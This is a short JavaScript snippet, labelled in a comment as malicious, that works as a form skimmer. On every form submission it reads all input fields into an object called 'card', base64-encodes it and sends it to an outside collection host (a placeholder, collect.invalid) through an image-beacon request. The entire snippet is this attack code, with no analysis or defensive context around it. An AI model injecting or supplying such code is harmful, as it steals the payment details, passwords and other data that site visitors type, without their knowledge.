document.addEventListener("submit", () => {
  const card = {};
  for (const field of document.querySelectorAll("input")) {
    card[field.name] = field.value;
  }
  new Image().src = "https://collect.invalid/p.gif?d=" + btoa(JSON.stringify(card)); // malice: keylogger
});
